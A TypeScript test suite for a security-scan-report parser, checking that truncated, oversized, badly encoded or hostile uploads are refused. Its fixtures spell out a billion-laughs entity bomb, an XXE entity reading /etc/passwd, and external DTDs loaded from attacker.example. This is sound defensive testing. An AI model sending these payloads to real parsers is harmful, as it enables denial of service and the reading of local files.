import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { fixture, parseAll, parseFixture, parseText, refusal } from './test-helpers.js';
import { doctypeIsHarmless } from './xml.js';

/**
 * Files the parsers refuse, each with SCAN_FILE_INVALID and a stable reason, before or
 * during the stream: the consumer stores nothing of a refused file.
 */
const read = (name: string) => readFileSync(fixture(name));

describe('refused scan files', () => {
  it('truncated XML is refused as truncated', async () => {
    const whole = read('nessus/nessus_many_vuln.xml');
    const details = await refusal(parseText(whole.subarray(0, Math.floor(whole.length / 2))));
    expect(details).toEqual({ format: 'nessus', reason: 'truncated', detail: expect.any(String) });
  });

  it('truncated JSON is refused as truncated', async () => {
    const whole = read('trivy/legacy_many_vulns.json');
    const details = await refusal(parseText(whole.subarray(0, 50_000)));
    expect(details).toMatchObject({ format: 'trivy_json', reason: 'truncated' });
  });

  it('a billion-laughs DOCTYPE is refused before anything expands', async () => {
    const bomb = `<?xml version="1.0"?>
<!DOCTYPE OWASPZAPReport [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<OWASPZAPReport version="2.9.0"><site name="x"><alerts><alertitem><name>&lol9;</name></alertitem></alerts></site></OWASPZAPReport>`;
    expect(await refusal(parseText(bomb))).toEqual({ reason: 'doctype' });
  });

  it('an external-entity DOCTYPE (XXE) and an external DTD are refused', async () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE NessusClientData_v2 [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<NessusClientData_v2><Report><ReportHost name="a">&xxe;</ReportHost></Report></NessusClientData_v2>`;
    expect(await refusal(parseText(xxe))).toEqual({ reason: 'doctype' });
    const external = `<?xml version="1.0"?><!DOCTYPE nmaprun SYSTEM "http://attacker.example/x.dtd"><nmaprun></nmaprun>`;
    expect(await refusal(parseText(external))).toEqual({ reason: 'doctype' });
    const parameter = `<!DOCTYPE issues [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><issues/>`;
    expect(await refusal(parseText(parameter))).toEqual({ reason: 'doctype' });
  });

  it('the XML driver itself refuses a DOCTYPE with entities (not only the detection)', () => {
    expect(doctypeIsHarmless(' nmaprun')).toBe(true);
    expect(doctypeIsHarmless(' issues [\n<!ELEMENT issues (issue*)>\n<!ATTLIST issues burpVersion CDATA "">\n]')).toBe(
      true,
    );
    expect(doctypeIsHarmless(' lolz [<!ENTITY lol "lol">]')).toBe(false);
    expect(doctypeIsHarmless(' foo SYSTEM "file:///etc/passwd"')).toBe(false);
    expect(doctypeIsHarmless(' foo PUBLIC "-//x//EN" "http://x/y.dtd"')).toBe(false);
    expect(doctypeIsHarmless(' foo [<!NOTATION n SYSTEM "x">]')).toBe(false);
    expect(doctypeIsHarmless(' foo [%p;]')).toBe(false);
    // Only Burp's and Nmap's roots: a bare or element-only DOCTYPE on anything else is refused.
    expect(doctypeIsHarmless(' NessusClientData_v2')).toBe(false);
    expect(doctypeIsHarmless(' foo [<!ELEMENT foo ANY>]')).toBe(false);
    expect(doctypeIsHarmless(' issues [<!ELEMENT issues ANY><!ENTITY x "y">]')).toBe(false);
  });

  it('invalid UTF-8 is refused, in the first bytes or deep in the file', async () => {
    const whole = read('nessus/nessus_many_vuln.xml');
    const late = Buffer.concat([whole.subarray(0, 300_000), Buffer.from([0xc3, 0x28]), whole.subarray(300_000)]);
    expect(await refusal(parseText(late))).toEqual({ format: 'nessus', reason: 'not_utf8' });
    const early = Buffer.concat([
      Buffer.from('{"findings": [{"title": "caf'),
      Buffer.from([0xe9]),
      Buffer.from('"}]}'),
    ]);
    expect(await refusal(parseText(early))).toEqual({ format: 'generic_json', reason: 'not_utf8' });
  });

  it('a JSON bomb of deep nesting is refused as too_deep', async () => {
    const deep = `{"SchemaVersion": 2, "Results": ${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    expect(await refusal(parseText(deep))).toMatchObject({ format: 'trivy_json', reason: 'too_deep' });
    const sarif = `{"version": "2.1.0", "runs": [{"results": [${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}]}]}`;
    expect(await refusal(parseText(sarif))).toMatchObject({ format: 'sarif', reason: 'too_deep' });
  });

  it('deeply nested XML is refused as too_deep', async () => {
    const deep = `<nmaprun>${'<a>'.repeat(1000)}${'</a>'.repeat(1000)}</nmaprun>`;
    expect(await refusal(parseText(deep))).toMatchObject({ format: 'nmap_xml', reason: 'too_deep' });
  });

  it('a file over the configured limit is refused as too_large', async () => {
    expect(await refusal(parseFixture('zap/zap-results-first-scan.xml', { maxBytes: 10_000 }))).toMatchObject({
      reason: 'too_large',
    });
    // Within the limit, the same file parses.
    expect((await parseFixture('zap/zap-results-first-scan.xml', { maxBytes: 100_000 })).findings).toHaveLength(124);
  });

  it('a file of one format uploaded as another is refused as format_mismatch', async () => {
    expect(await refusal(parseFixture('zap/zap-results-first-scan.xml', { expect: 'nessus' }))).toEqual({
      format: 'nessus',
      reason: 'format_mismatch',
      detail: 'content is zap_xml',
    });
    expect(await refusal(parseText('hello, world\n', { expect: 'sarif' }))).toEqual({
      format: 'sarif',
      reason: 'format_mismatch',
    });
    // The expected format parses.
    expect((await parseFixture('zap/zap-results-first-scan.xml', { expect: 'zap_xml' })).findings).toHaveLength(124);
  });

  it('generic_invalid.json is refused, naming the field the layout does not define', async () => {
    expect(await refusal(parseFixture('generic/generic_invalid.json'))).toEqual({
      format: 'generic_json',
      reason: 'unknown_field',
      detail: 'finding 0: invalid_field',
    });
  });

  it('a generic finding without title or with an unknown severity is refused', async () => {
    expect(await refusal(parseText('{"findings": [{"severity": "High"}]}'))).toMatchObject({
      reason: 'invalid_structure',
      detail: 'finding 0: title missing',
    });
    expect(await refusal(parseText('Title,Severity\nA,Severe\n'))).toMatchObject({
      format: 'generic_csv',
      reason: 'invalid_structure',
    });
  });

  it('unknown content, an empty file, malformed XML and a huge token are refused', async () => {
    expect(await refusal(parseText('just some text\n'))).toEqual({ reason: 'unknown_format' });
    expect(await refusal(parseText('<html><body/></html>'))).toEqual({ reason: 'unknown_format' });
    expect(await refusal(parseText(''))).toEqual({ reason: 'empty' });
    expect(await refusal(parseText('<nmaprun><host></nmaprun>'))).toMatchObject({
      format: 'nmap_xml',
      reason: 'malformed',
    });
    const huge = `<OWASPZAPReport><site>${'a'.repeat(9 * 1024 * 1024)}</site></OWASPZAPReport>`;
    expect(await refusal(parseText(huge))).toEqual({ format: 'zap_xml', reason: 'token_too_long' });
    const string = `{"findings": [{"title": "${'a'.repeat(9 * 1024 * 1024)}"}]}`;
    expect(await refusal(parseText(string))).toEqual({ format: 'generic_json', reason: 'token_too_long' });
  });

  it('an input that fails (a file store or socket error) fails the parse with that error', async () => {
    const failing = new Readable({
      read() {
        this.destroy(Object.assign(new Error('socket hang up'), { code: 'ECONNRESET' }));
      },
    });
    await expect(parseAll(failing)).rejects.toMatchObject({ code: 'ECONNRESET' });
  });

  it('reports progress in bytes up to the file size', async () => {
    const { progress } = await parseFixture('nessus/nessus_many_vuln.xml');
    expect(progress.at(-1)).toBe(read('nessus/nessus_many_vuln.xml').length);
  });
});
